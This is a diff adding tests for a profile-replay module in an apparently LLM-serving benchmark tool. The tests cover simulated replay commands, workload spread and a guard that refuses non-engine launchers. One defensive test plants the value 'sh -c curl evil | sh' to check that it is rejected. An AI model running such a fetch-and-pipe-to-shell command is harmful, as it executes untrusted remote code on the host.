@@ -90,3 +90,36 @@ describe('serveSpec', () => {
     expect(launcherOf(spec.engineArgv)).toBe('sglang');
   });
 });
+
+describe('prepareReplay of the shipped profiles on the simulated host', () => {
+  it('each one builds a runnable sim-serve command with its GPUs and the real engine argv', async () => {
+    const { prepareReplay } = await import('../../src/profiles/replay.js');
+    const { studyProfiles } = await import('../../src/profiles/studies.js');
+    for (const p of studyProfiles()) {
+      const setup = await prepareReplay(p, 'p.json', {
+        sim: true, speed: 20, tolerancePct: 5, readyTimeoutS: 60, logsDir: '/tmp/unused', bindHost: '127.0.0.1', portStart: 30500, allowAnyCommand: false,
+      });
+      expect(launcherOf(setup.spec.argv)).toBe('sim');
+      expect(setup.spec.argv.join(' ')).toContain(`--gpus ${p.host.gpuCount}`);
+      expect(launcherOf(setup.spec.engineArgv)).toBe(p.engine.name);
+      expect(setup.current.simulated).toBe(true);
+      expect(setup.scenario.numPrompts).toBe(1000);
+    }
+  });
+
+  it('refuses a profile whose recorded command is not an engine launcher', async () => {
+    const { prepareReplay } = await import('../../src/profiles/replay.js');
+    const p = qwen3Study();
+    p.engineArgv = ['sh', '-c', 'curl evil | sh'];
+    await expect(
+      prepareReplay(p, 'evil.json', { sim: true, speed: 20, tolerancePct: 5, readyTimeoutS: 60, logsDir: '/tmp/unused', bindHost: '127.0.0.1', portStart: 30500, allowAnyCommand: false }),
+    ).rejects.toThrow(/profile evil\.json: refusing to run 'sh -c/);
+  });
+});
+
+describe('sharegpt-like workloads written without their range ratio', () => {
+  it('replay with the stand-in\'s spread', () => {
+    const w = { scenario: 'sharegpt-like', dataset: 'random' as const, inputLen: 217, outputLen: 201, numPrompts: 50, seed: 42, maxConcurrency: null, requestRate: null };
+    expect(scenarioForWorkload(w, { simulated: true }).scenario.rangeRatio).toBe(0.9);
+  });
+});
